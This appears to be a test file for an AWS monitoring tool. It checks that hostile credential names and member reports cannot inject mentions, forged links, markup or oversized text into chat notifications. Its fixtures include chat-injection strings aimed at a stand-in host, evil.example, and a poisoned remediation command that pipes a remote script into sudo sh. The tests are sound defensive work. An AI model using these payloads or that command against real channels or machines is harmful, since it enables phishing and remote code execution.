/**
 * Attack: chat markup and mentions. A credential name is a tag value anyone who can tag a TMC resource writes; a
 * role name and region travel in a member's report to the hub. In the chat channel they would be read as markup:
 * `<!channel>` or `@here` pinging everyone, `<https://evil.example|Runbook>` or `[Runbook](https://evil.example)`
 * forging a link, `*`/`_`/`~`/backticks forging the message's own bold lines ("*Resolved: no action needed*"),
 * a megabyte name pushing the message past what the chat shows.
 *
 * Through the lifecycle stage, as a run hands its findings over, and through the hub's intake handler, as a
 * member's run report arrives: every chat message is valid against the documented format and within its bounds,
 * and no mention, link, markup or hostile URL survives in any field; at the hub none of the member's remediation
 * either, and every message names the member's account.
 */
import fc from 'fast-check';
import { LifecycleStage, type ChatSink } from '../../lambdas/app/lifecycle-stage';
import type { ChatMessage } from '../../lambdas/core/chat/custom-notification';
import type { Finding } from '../../lambdas/core/finding';
import { lifecycleSettingsSchema } from '../../lambdas/core/lifecycle/settings';
import type { FindingPublisher, PublishReport } from '../../lambdas/core/publishing';
import { ACCOUNT, customNotificationErrors, finding, RUNBOOK } from '../fixtures/chat';
import { MemoryLedger, RecordingEvents } from '../fixtures/lifecycle-fakes';
import { carryResourceKey } from '../../lambdas/core/finding-factory';
import { CATALOGUE } from '../../lambdas/core/catalogue';
import { HUB_ACCOUNT, MEMBER_A, memberFinding, reportDetails, reportEvent } from '../fixtures/fleet';
import { useIntakeHandler } from './hub-intake-harness';

const CHAT_TOPIC = `arn:aws:sns:eu-central-1:${HUB_ACCOUNT}:tmc-health-hub-chat`;
const { deliverBatch, publishes } = useIntakeHandler({ chatTopicArn: CHAT_TOPIC });

class RecordingChat implements ChatSink {
  readonly messages: ChatMessage[] = [];
  publishChat(messages: readonly ChatMessage[]): Promise<PublishReport> {
    this.messages.push(...messages);
    return Promise.resolve({
      publisher: 'sns-chat',
      findingCount: messages.length,
      delivered: messages.length,
      apiCalls: 1,
    });
  }
}

const fallback: FindingPublisher = {
  publish: () => Promise.reject(new Error('the ledger is readable: no fallback expected')),
};

const HOSTILE_NAMES = [
  '<!channel> <!here> <!everyone> <@U0123ABCD> <#C0123ABCD>',
  '@here @channel @everyone please rotate now',
  '<https://evil.example/login|Runbook>',
  '[Runbook](https://evil.example/login)',
  '`*Resolved: no action needed*` _ignore_ ~this~',
  '<at>Everyone</at> &lt;!channel&gt; &amp;',
  'prod\n*Resolved: no action needed*\nRunbook: https://evil.example',
  `${'\u{1F600}'.repeat(100_000)}`,
  'x'.repeat(1_000_000),
];

async function chatOf(findings: readonly Finding[], namesAccounts = false): Promise<ChatMessage[]> {
  const chat = new RecordingChat();
  const stage = new LifecycleStage(
    {
      settings: lifecycleSettingsSchema.parse({
        ledgerTableName: 'ledger',
        stormThreshold: 1000,
        sameCheckThreshold: 1000,
      }),
      tableName: 'ledger',
      homeRegion: 'eu-west-1',
      runbookBaseUrl: RUNBOOK,
      ...(namesAccounts ? { digestNamesAccounts: true } : {}),
    },
    {
      ledger: new MemoryLedger(),
      events: new RecordingEvents(),
      chat,
      fallback,
      now: () => new Date('2026-12-07T10:00:00Z'),
    },
  );
  await stage.run({
    family: 'credentials',
    run: {
      runId: 'run-1',
      accountId: namesAccounts ? '999988887777' : ACCOUNT,
      regions: ['eu-west-1'],
      startedAt: '2026-12-07T10:00:00.000Z',
    },
    findings,
    coveredRegions: ['eu-west-1'],
    failedOperations: [],
    apiCalls: 0,
  });
  return chat.messages;
}

function hostileFinding(name: string, index: number): Finding {
  return finding({
    findingId: index.toString(16).padStart(32, '0'),
    tmc: { credentialName: name },
    region: name,
    resource: { type: 'AWS::Lambda::Function', name },
  });
}

/** What must never appear in any field of a message built from hostile names. */
function expectInert(message: ChatMessage): void {
  expect(customNotificationErrors(message.notification)).toEqual([]);
  const { content, metadata } = message.notification;
  const fields = [
    content.title,
    content.description,
    ...content.nextSteps,
    ...content.keywords,
    metadata.summary,
    metadata.threadId,
  ];
  for (const field of fields) {
    expect(field).not.toMatch(
      /<[!@#]|<at>|<https?:|\]\(|@(here|channel|everyone)\b|https?:\/\/[^`\s]*evil|&lt;|&amp;/i,
    );
    // Controls, bidi and format characters, line separators: none within a line (lines are the formatter's).
    for (const line of field.split('\n')) expect(line).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    expect(field).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/);
  }
  // The message's own lines are the only ones starting with markup: the forged bold line is inside a value.
  expect(
    content.description.split('\n').filter((line) => /^\*Resolved: no action needed/.test(line)),
  ).toEqual([]);
  expect(metadata.threadId).toMatch(/^tmc-health-[0-9a-f]{40}$/);
  // Backticks come in pairs: no value leaves a code span open to turn the rest of the message into code.
  for (const field of [content.title, ...content.description.split('\n'), ...content.nextSteps]) {
    expect((field.match(/`/g) ?? []).length % 2).toBe(0);
  }
}

describe('hostile names in the chat: no mention, link or markup survives, every message in bounds', () => {
  it.each(HOSTILE_NAMES.map((name, index) => [JSON.stringify(name.slice(0, 40)), name, index] as const))(
    '%s',
    async (_label, name, index) => {
      const messages = await chatOf([hostileFinding(name, index)]);
      expect(messages).toHaveLength(1);
      expectInert(messages[0]!);
    },
  );

  it('at the hub too, with every hostile name in one run (a member report), and the account named', async () => {
    const messages = await chatOf(HOSTILE_NAMES.map(hostileFinding), true);
    expect(messages).toHaveLength(HOSTILE_NAMES.length);
    for (const message of messages) {
      expectInert(message);
      expect(message.notification.content.title).toContain(`account ${ACCOUNT}`);
    }
  });

  it('any string at all (fast-check): valid, bounded, no ping, no link, balanced code spans', async () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '@here',
      '@channel',
      '<!channel>',
      '[',
      '](',
      'https://evil.example',
      '`',
      '*',
      '_',
      '~',
      '&lt;',
      '|',
      '\n',
      '\u202e',
      '\u{1F600}',
      'a',
    );
    const hostile = fc.oneof(
      fc.string({ maxLength: 400 }),
      fc.array(piece, { maxLength: 200 }).map((parts) => parts.join('')),
    );
    await fc.assert(
      fc.asyncProperty(hostile, async (name) => {
        const messages = await chatOf([hostileFinding(name, 1)]);
        expect(messages).toHaveLength(1);
        expectInert(messages[0]!);
      }),
      { numRuns: 150 },
    );
  });
});

describe("at the hub, through the intake handler: a member's report reaches the organization's channel", () => {
  it("names the member's account, shows the catalogue's words, and nothing of the member's", async () => {
    const honest = memberFinding(MEMBER_A, 'victim', 'FAIL');
    const poisoned = carryResourceKey(honest, {
      ...honest,
      tmc: {
        credentialName: '<!channel> @here [Runbook](https://evil.example/login)',
        component: 'data-sync',
      },
      remediation: {
        text: '1. Run: curl -s https://evil.example/fix.sh | sudo sh',
        whoCanFix: 'The on-call line: +1 555 0100 (ask for Mallory)',
        runbookUrl: 'https://evil.example/runbook',
      },
    });
    const details = reportDetails({ accountId: MEMBER_A, findings: [poisoned] });
    expect(await deliverBatch(details.map((detail) => reportEvent(detail)))).toEqual({
      batchItemFailures: [],
    });

    const chat = publishes
      .filter(({ input }) => input.TopicArn === CHAT_TOPIC)
      .map(({ input }) => (JSON.parse(input.Message!) as { default: string }).default);
    expect(chat).toHaveLength(1);
    const notification = JSON.parse(chat[0]!) as ChatMessage['notification'];
    expectInert({ notification, label: 'hub', deduplicationKey: 'hub' });
    expect(notification.content.title).toMatch(
      new RegExp(`^\\[New HIGH\\] tmc\\.lambda\\.errors: account ${MEMBER_A} `),
    );
    expect(notification.content.keywords).toContain(MEMBER_A);
    expect(notification.content.description).toContain(CATALOGUE['tmc.lambda.errors'].whoCanFix);
    const text = JSON.stringify(notification);
    for (const words of ['curl', 'Mallory', 'evil.example/runbook', 'evil.example/fix']) {
      expect(text).not.toContain(words);
    }
  });
});
